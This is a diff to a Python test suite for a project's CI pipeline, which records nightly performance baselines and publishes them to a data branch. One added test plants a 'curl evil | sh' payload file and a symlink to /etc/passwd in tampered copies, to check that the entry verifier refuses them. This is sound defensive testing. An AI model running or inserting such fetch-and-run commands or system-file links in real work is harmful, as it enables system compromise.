@@ -260,14 +260,17 @@ def test_comment_step_posts_one_sticky_per_runner_class_and_suite(tmp_path: Path
     (["within noise"] * 30, "2", True),
 ])
 def test_nightly_counts_the_aa_false_alarms(tmp_path: Path, calls: list, aa_exit: str, fails: bool) -> None:
-    step = _step("nightly-baseline.yml", "record", "Count the A/A false alarms")
+    action = load_yaml(REPO / ".github" / "actions" / "record-baseline" / "action.yml")
+    step = next(s for s in action["runs"]["steps"] if s["name"] == "Count the A/A false alarms")
     verdict = tmp_path / "verdict"
     verdict.mkdir()
     rows = [{"timed": True, "verdict": "IDENTICAL_BINARY", "timing_change": c} for c in calls]
     (verdict / "verdict.json").write_text(json.dumps({"counts": {"IDENTICAL_BINARY": len(rows)}, "rows": rows}))
     summary = tmp_path / "summary.md"
     proc = _run_step(step, {"PY": sys.executable, "VERDICT_DIR": str(verdict), "AA_EXIT": aa_exit,
-                            "GITHUB_STEP_SUMMARY": str(summary)}, tmp_path)
+                            "GITHUB_STEP_SUMMARY": str(summary), "RUNNER_TEMP": str(tmp_path),
+                            "GITHUB_OUTPUT": str(tmp_path / "out"),
+                            "GITHUB_ACTION_PATH": str(REPO / ".github" / "actions" / "record-baseline")}, tmp_path)
     assert (proc.returncode != 0) is fails, proc.stdout + proc.stderr
     called = calls.count("slower") + calls.count("faster")
     assert f"**{called}** of {len(calls)} rows called slower or faster" in summary.read_text()
@@ -293,12 +296,19 @@ def _git(*args: str, cwd: Path | None = None) -> str:
     return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout
 
 
+RECORD_ACTION = "./tritongate/.github/actions/record-baseline"
+RECORD_ACTION_DIR = REPO / ".github" / "actions" / "record-baseline"
+
+
 def test_nightly_records_checks_and_pushes_one_entry(tmp_path: Path) -> None:
+    """Both nightly jobs on a schedule event (its documented payload: the cron string only),
+    through the record-baseline action; the push goes to a local bare "GitHub", with and
+    without the data branch. The compiler build is the one step not run (mode source cannot
+    build here): it is faked with this interpreter and a commit."""
     doc = load_yaml(WORKFLOWS / "nightly-baseline.yml")
     branch = doc["env"]["BASELINE_BRANCH"]
     suite = tmp_path / "tiny.yaml"  # one row, so the record and the A/A take seconds
     suite.write_text("description: one row\ndtypes: [float16]\nops:\n  add: {shapes: [[4096]]}\n")
-    # GITHUB_SERVER_URL: two "GitHub"s, bare repositories, one with the data branch, one without
     servers = {True: tmp_path / "server-with-branch", False: tmp_path / "server-first-nightly"}
     for exists, server in servers.items():
         origin = server / "acme" / "tritongate.git"
@@ -311,79 +321,106 @@ def test_nightly_records_checks_and_pushes_one_entry(tmp_path: Path) -> None:
             _git("commit", "-q", "-m", "seed", cwd=seed)
             _git("push", "-q", str(origin), f"HEAD:refs/heads/{branch}", cwd=seed)
 
-    def job_run(name: str, server: Path, needs: dict, uses: Callable) -> tuple[JobRun, str]:
+    uploads: dict[str, dict] = {}
+
+    def job_run(name: str, server: Path, needs: dict, download: Path | None = None) -> tuple[JobRun, str]:
         workspace, runner_temp = tmp_path / name / server.name / "ws", tmp_path / name / server.name / "temp"
         workspace.mkdir(parents=True)
         runner_temp.mkdir(parents=True)
-        github = {"event_name": "schedule", "repository": "acme/tritongate", "sha": SHA_MERGE,
+        github = {"event_name": "schedule", "repository": "acme/tritongate", "sha": SHA_MERGE, "token": "ghs_x",
                   "ref": "refs/heads/main", "run_id": "99", "server_url": server.as_uri(),
                   "event": payload("schedule")}  # documented: the cron string, nothing else
         contexts = {"inputs": {}, "vars": {}, "github": github, "needs": needs,
+                    "job": {"workflow_repository": "acme/tritongate", "workflow_sha": SHA_MERGE},
                     "runner": {"temp": str(runner_temp), "os": "Linux"}}
         job = doc["jobs"][name]
-        assert condition(job["if"], Evaluator(contexts)), f"{name} would not run on main"
+        assert condition(job["if"], Evaluator(contexts)), f"{name} would not run on a schedule"
+
+        def uses(run: JobRun, step: dict, with_values: dict) -> tuple[str, dict] | None:
+            ref = step["uses"]
+            if ref == RECORD_ACTION:
+                if name == "record":  # the one change: the cpu backend and a one-row suite
+                    with_values = {**with_values, "backend": "cpu", "suite": str(suite)}
+                return run.run_composite(RECORD_ACTION_DIR, with_values, run.current_env)
+            if ref.startswith("actions/checkout@"):
+                if with_values.get("path") == "tritongate":
+                    (run.workspace / "tritongate").symlink_to(REPO, target_is_directory=True)
+                return None  # the compiler checkout: the build that would use it is faked
+            if ref.startswith("actions/upload-artifact@"):
+                uploads[with_values["name"]] = with_values
+                return None
+            if ref.startswith("actions/download-artifact@"):
+                assert with_values["name"] == "tritongate-baseline-entry-h200" and download is not None
+                shutil.copytree(download, with_values["path"])
+                return None
+            if ref.startswith("actions/setup-python@"):
+                return None  # this interpreter is first on PATH
+            raise AssertionError(ref)
+
         env = {**clean_env(tmp_path, workspace, runner_temp), "GITHUB_SERVER_URL": server.as_uri(),
-               "GITHUB_REPOSITORY": "acme/tritongate", "GITHUB_RUN_ID": "99", "GITHUB_EVENT_NAME": "schedule"}
+               "GITHUB_REPOSITORY": "acme/tritongate", "GITHUB_RUN_ID": "99", "GITHUB_EVENT_NAME": "schedule",
+               "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
         run = JobRun(workspace, runner_temp, contexts, env, uses)
-        # the one change to the job: the cpu backend and a one-row suite instead of cuda and `pr`
-        status = run.run_job(job, doc.get("env"), {"TG_BACKEND": "cpu", "TG_SUITE": str(suite)}
-                             if name == "record" else None)
-        return run, status
+        run.fakes = {"build": {"python": sys.executable, "commit": "5" * 40},  # the build of main
+                     "deps": {}}  # the verifier's pip install: this interpreter has them
+        return run, run.run_job(job, doc.get("env"))
 
-    def checkout_store(run: JobRun, server: Path, with_values: dict) -> tuple[str, dict] | None:
-        assert with_values["ref"] == branch and with_values["path"] == "baseline-store"
-        if server == servers[False]:
-            return "failure", {}  # no data branch yet
-        origin = server / "acme" / "tritongate.git"
-        _git("clone", "-q", "--depth", "1", "-b", branch, origin.as_uri(), str(run.workspace / "baseline-store"))
-        return None
-
-    uploads: dict[str, dict] = {}
-
-    def record_uses(run: JobRun, step: dict, with_values: dict) -> tuple[str, dict] | None:
-        ref = step["uses"]
-        if ref == BUILD_ACTION:  # mode source cannot run here: the build of main, faked
-            assert with_values["mode"] == "source" and with_values["ref"] == "main"
-            return "success", {"python": sys.executable, "commit": "5" * 40}
-        if ref.startswith("actions/checkout@"):
-            if with_values.get("path") == "baseline-store":
-                return checkout_store(run, servers[True], with_values)
-            (run.workspace / "tritongate").symlink_to(REPO, target_is_directory=True)
-            return None
-        if ref.startswith("actions/upload-artifact@"):
-            uploads[with_values["name"]] = with_values
-            return None
-        raise AssertionError(ref)
-
-    record, status = job_run("record", servers[True], {}, record_uses)
+    record, status = job_run("record", servers[True], {})
     assert status == "success", record.log()
-    entry = record.contexts["steps"]["publish"]["outputs"]["entry"]
+    entry = record.inner_steps["publish"]["outputs"]["entry"]
     assert re.fullmatch(r"h200/tiny/cpu/[0-9]{8}T[0-9]{6}Z-5555555[0-9a-f]*(-[0-9]+)?", entry), entry
-    entry_path = Path(uploads["tritongate-baseline-entry"]["path"])
+    entry_path = Path(uploads["tritongate-baseline-entry-h200"]["path"])
     assert (entry_path / "manifest.json").is_file()
     summary = "".join(record.summaries)
     assert "**0** of 1 rows called slower or faster" in summary, summary
-    # tonight's history: one entry, too short for change points, reported and uploaded
     history = record.runner_temp / "tritongate" / "history"
     assert (history / "history.json").is_file() and (history / "history.md").is_file(), record.log()
     assert "change points" in summary.lower(), summary
-    assert set(uploads) == {"tritongate-baseline-entry", "tritongate-nightly-runs"}
+    assert set(uploads) == {"tritongate-baseline-entry-h200", "tritongate-nightly-runs-h200"}
 
     for exists, server in servers.items():
-        def publish_uses(run: JobRun, step: dict, with_values: dict, server: Path = server) -> tuple[str, dict] | None:
-            ref = step["uses"]
-            if ref.startswith("actions/checkout@"):
-                return checkout_store(run, server, with_values)
-            if ref.startswith("actions/download-artifact@"):
-                assert with_values["name"] == "tritongate-baseline-entry"
-                shutil.copytree(entry_path, with_values["path"])
-                return None
-            raise AssertionError(ref)
-
         needs = {"record": {"outputs": {"entry": entry}, "result": "success"}}
-        publish, status = job_run("publish", server, needs, publish_uses)
+        publish, status = job_run("publish", server, needs, download=entry_path)
         assert status == "success", publish.log()
         pushed = _git("--git-dir", str(server / "acme" / "tritongate.git"), "ls-tree", "-r", "--name-only",
                       branch).splitlines()
         assert f"{entry}/manifest.json" in pushed, pushed
         assert ("README.md" in pushed) is exists  # nothing already on the branch was lost
+        assert "verified " + entry in publish.log()
+        assert "ghs_x" not in publish.log()
+
+
+def test_publish_refuses_an_entry_that_was_changed_on_the_way(tmp_path: Path) -> None:
+    store = tmp_path / "store"
+    proc = subprocess.run([sys.executable, str(REPO / "ci" / "record_baseline.py"), "--suite", "smoke", "--ops", "add",
+                           "--backend", "cpu", "--out", str(tmp_path / "record"), "--publish", str(store),
+                           "--runner-class", "cpu-ci"], capture_output=True, text=True, timeout=300,
+                          env={k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "TRITONGATE_"))})
+    assert proc.returncode == 0, proc.stderr
+    entry_dir = Path(proc.stdout.splitlines()[-1].split(": ", 1)[1])
+    entry = entry_dir.relative_to(store).as_posix()
+
+    def verify(folder: Path) -> subprocess.CompletedProcess:
+        return subprocess.run([sys.executable, "-I", str(REPO / "ci" / "verify_entry.py"), str(folder),
+                               "--entry", entry], capture_output=True, text=True)
+
+    assert verify(entry_dir).returncode == 0
+    for case in ("edited", "extra", "symlink", "moved"):
+        copy = tmp_path / case
+        shutil.copytree(entry_dir, copy, symlinks=True)
+        victim = next(p for p in sorted(copy.rglob("*")) if p.is_file() and p.name != "manifest.json")
+        if case == "edited":
+            victim.write_bytes(victim.read_bytes() + b" ")
+        elif case == "extra":
+            (copy / "payload.sh").write_text("curl evil | sh\n")
+        elif case == "symlink":
+            victim.unlink()
+            victim.symlink_to("/etc/passwd")
+        else:
+            proc = verify(copy)
+            proc = subprocess.run([sys.executable, "-I", str(REPO / "ci" / "verify_entry.py"), str(copy),
+                                   "--entry", "other/place/cpu/x"], capture_output=True, text=True)
+            assert proc.returncode == 2 and "record_path" in proc.stderr
+            continue
+        proc = verify(copy)
+        assert proc.returncode == 2 and proc.stderr.startswith("error: verify_entry.py: refused"), (case, proc.stderr)
